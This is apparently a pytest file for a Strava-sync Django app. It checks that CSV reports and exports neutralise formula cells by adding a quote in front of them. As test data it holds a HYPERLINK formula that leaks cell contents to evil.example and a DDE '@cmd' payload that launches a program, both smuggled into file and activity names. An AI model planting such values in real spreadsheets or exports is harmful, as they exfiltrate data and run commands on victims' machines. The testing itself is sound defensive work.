"""Report and export CSVs: a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from stravasync.spreadsheets import csv_cell
from tests.uploads.conftest import SETTINGS_FIT
from uploads.selectors import batch_report_csv

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click").fit'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_evaluate_is_prefixed_with_a_quote(text):
    assert csv_cell(text) == "'" + text


def test_plain_text_numbers_and_empty_cells_are_left_alone():
    assert csv_cell("ride.fit") == "ride.fit"
    assert csv_cell(-12.5) == -12.5 and csv_cell(0) == 0
    assert csv_cell(None) == ""


def test_a_file_named_like_a_formula_is_text_in_the_batch_report(ingest):
    (upload,) = ingest(SETTINGS_FIT, name=HYPERLINK)
    rows = list(csv.DictReader(io.StringIO(batch_report_csv(batch=upload.batch))))
    assert rows[0]["file"] == "'" + HYPERLINK
    assert rows[0]["status"] == "junk"


def test_an_activity_named_like_a_formula_is_text_in_the_warehouse_export(alice):
    from tests.warehouse.conftest import summary_json
    from warehouse.models import Activity
    from warehouse.selectors import export_csv_lines
    from warehouse.services import activities_upsert

    activities_upsert(athlete_id=alice.pk, summaries=[summary_json(name="@cmd|' /C calc'!A0")])
    rows = list(csv.DictReader(io.StringIO("".join(export_csv_lines(activities=Activity.objects.all())))))
    assert rows[0]["name"] == "'@cmd|' /C calc'!A0"
